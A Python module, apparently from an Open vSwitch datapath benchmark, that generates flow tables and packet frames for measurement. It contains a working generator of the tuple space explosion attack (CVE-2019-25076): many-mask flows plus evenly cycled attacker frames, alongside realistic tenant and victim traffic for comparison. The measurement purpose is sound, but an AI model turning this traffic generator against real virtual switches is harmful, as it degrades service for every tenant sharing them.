# SPDX-License-Identifier: GPL-2.0
"""Flow tables of many masks: what an attacker makes (tuple space explosion, CVE-2019-25076), and a mix as hosts have it.

Used by guest.py, which measures; nothing here talks to the kernel. A flow is (key, mask, actions) in netlink attributes.
"""

import itertools
import random

from frames import eth, ipv4, udp
from ovsnl import *

ORDERS = ("random", "shortest first", "longest first")
# Lengths of prefixes of the IPv4 source, the destination port and the source port; their product is the number of masks.
LENGTHS = {1: (1, 1, 1), 16: (16, 1, 1), 128: (16, 8, 1), 1024: (16, 8, 8), 8192: (32, 16, 16)}
# The C module tries one mask after the other, and has room for some 4000.
STOCK_MOST = 1024
ALLOWED = (0x0a010203, 80, 4242)
WIDTHS = (32, 16, 16)


def largest(counts):
    """Of these, the attacks that more is asked about: the largest that both modules stand, and the largest."""
    return sorted({max(n for n in counts if n <= STOCK_MOST), max(counts)} if min(counts) <= STOCK_MOST else {max(counts)})


def prefix(length, width):
    return (1 << width) - (1 << (width - length))


def attack(masks, order, port=1):
    """What packets make that differ from an allowed one in the last bit of a prefix, for all combinations of lengths."""
    flows = []
    counts = LENGTHS[masks]
    for a in range(1, counts[0] + 1):
        for b in range(1, counts[1] + 1):
            for c in range(1, counts[2] + 1):
                values, bits = [], []
                for value, width, count, length in zip(ALLOWED, WIDTHS, counts, (a, b, c)):
                    mask = prefix(length, width) if count > 1 else 0
                    values.append((value ^ 1 << (width - length)) & mask)
                    bits.append(mask)
                flows.append(flow(port, values, bits))
    if order == "random":
        random.Random(1).shuffle(flows)
    elif order == "longest first":
        flows.reverse()
    return flows


def in_turn(masks):
    """Makes frames of which each flow of the attack gets as many as any other: what an attacker sends who knows of it."""
    lengths = [range(1, n + 1) for n in LENGTHS[masks]]
    frames = []
    for cut in itertools.product(*lengths):
        values = [value ^ 1 << (width - length) if count > 1 else value
                  for value, width, length, count in zip(ALLOWED, WIDTHS, cut, LENGTHS[masks])]
        address, dport, sport = values
        src = ".".join(str(x) for x in address.to_bytes(4, "big"))
        frames.append(eth(0x800, ipv4(17, udp(b"\0" * 18, sport, dport, src), src)))
    random.Random(3).shuffle(frames)
    return lambda n: (frames * (n // len(frames) + 1))[:n]


def flow(port, values, bits):
    """Matches these bits of source address, destination port and source port."""
    address, dport, sport = values
    key = [k_port(port), k_eth(), k_type(0x800), attr(KEY.IPV4, be32(address) + b"\0" * 4 + b"\x11\0\x40\0"), k_udp(sport, dport)]
    address, dport, sport = bits
    mask = [k_port(0xffffffff), k_type(0xffff), attr(KEY.IPV4, be32(address) + b"\0" * 4 + b"\xff\0\0\xff"),
            attr(KEY.UDP, be16(sport) + be16(dport))]
    return key, mask, [a_output(2)]


def mac(n):
    return bytes([2, 0, 0, 0, n >> 8, n & 255])


def mix(port):
    """3000 flows of 30 masks, and the 2000 frames in the order in which they come: by Zipf's law."""
    rng = random.Random(2)
    kinds = []
    while len(kinds) < 30:
        kind = tuple(rng.choice(c) for c in ((0, 8, 16, 24, 32), (0, 16, 20, 24, 32), (0, 16), (0, 16)))
        if kind not in kinds:
            kinds.append(kind)
    flows, frames, seen = [], [], set()
    while len(flows) < 3000:
        tenant = rng.randrange(30)
        a, b, c, d = kinds[tenant]
        src, dst, sport, dport = rng.getrandbits(32), rng.getrandbits(32), rng.getrandbits(16), rng.choice((53, 80, 443, 8080))
        bits = [prefix(n, w) for n, w in ((a, 32), (b, 32), (c, 16), (d, 16))]
        masked = (tenant, src & bits[0], dst & bits[1], sport & bits[2], dport & bits[3])
        if masked in seen or a + b + c + d == 0:
            if a + b + c + d < 24:  # few values: more of another tenant
                flows.append(None)
            continue
        seen.add(masked)
        key = [k_port(port), attr(KEY.ETHERNET, mac(tenant) + mac(1)), k_type(0x800),
               attr(KEY.IPV4, be32(src) + be32(dst) + b"\x11\0\x40\0"), k_udp(sport, dport)]
        mask = [k_port(0xffffffff), attr(KEY.ETHERNET, b"\xff" * 12), k_type(0xffff),
                attr(KEY.IPV4, be32(bits[0]) + be32(bits[1]) + b"\xff\0\0\xff"), attr(KEY.UDP, be16(bits[2]) + be16(bits[3]))]
        flows.append((key, mask, [a_output(2)]))
        if len(frames) < 2000:
            text = lambda n: ".".join(str(x) for x in n.to_bytes(4, "big"))  # noqa: E731
            packet = udp(b"\0" * 18, sport, dport, text(src), text(dst))
            frames.append(eth(0x800, ipv4(17, packet, text(src), text(dst)), src=mac(tenant), dst=mac(1)))
    weights = [1 / (n + 1) for n in range(len(frames))]
    return [f for f in flows if f], frames, lambda n: rng.choices(frames, weights, k=n)


def victims(port):
    """1000 plain flows of another port, and a frame for each."""
    flows, frames = [], []
    for n in range(1000):
        key = [k_port(port), attr(KEY.ETHERNET, mac(n) + mac(n + 1)), k_type(0x800), k_ipv4(), k_udp()]
        mask = [k_port(0xffffffff), attr(KEY.ETHERNET, b"\xff" * 12), k_type(0xffff), attr(KEY.IPV4, b"\0" * 11 + b"\xff")]
        flows.append((key, mask, [a_output(2)]))
        frames.append(eth(0x800, ipv4(17, udp(b"\0" * 18)), src=mac(n), dst=mac(n + 1)))
    return flows, frames
